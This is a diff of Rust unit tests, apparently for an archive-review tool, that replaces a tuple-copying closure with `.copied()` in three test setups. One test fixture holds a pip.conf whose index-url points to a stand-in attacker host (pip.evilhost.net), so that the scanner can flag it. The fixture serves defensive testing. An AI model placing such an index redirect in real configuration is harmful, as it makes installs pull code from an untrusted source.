@@ -3624,7 +3624,7 @@ mod tests {
             ("assets/chart.png", b"\x89PNG\r\n\x1a\n", 0o644),
             ("tools/setup.sh", b"echo setup\n", 0o755),
         ];
-        let (_dir, staging, x, kept) = staged_tar(files.iter().map(|(p, d, m)| (*p, *d, *m)));
+        let (_dir, staging, x, kept) = staged_tar(files.iter().copied());
         let r = reviewed_both_ways(&staging, &x, &kept);
         let scripts: Vec<&str> = r.scripts.iter().map(|s| s.path.as_str()).collect();
         assert!(scripts.contains(&"tools/setup.sh"), "{scripts:?}");
@@ -3659,7 +3659,7 @@ mod tests {
             ("pip.conf", b"[global]\nindex-url = https://pip.evilhost.net/simple\n", 0o644),
             ("requirements.txt", b"--index-url https://pypi.org/simple\nrequests\n", 0o644),
         ];
-        let (_dir, staging, x, kept) = staged_tar(files.iter().map(|(p, d, m)| (*p, *d, *m)));
+        let (_dir, staging, x, kept) = staged_tar(files.iter().copied());
         let from_kept = reviewed_both_ways(&staging, &x, &kept);
         let r = from_kept;
         let caps = &r.capabilities;
@@ -3740,7 +3740,7 @@ mod tests {
                 0o644,
             ),
         ];
-        let (_dir, staging, x, kept) = staged_tar(files.iter().map(|(p, d, m)| (*p, *d, *m)));
+        let (_dir, staging, x, kept) = staged_tar(files.iter().copied());
         let r = reviewed_both_ways(&staging, &x, &kept);
         let index_at: BTreeSet<(&str, u64)> = r
             .findings
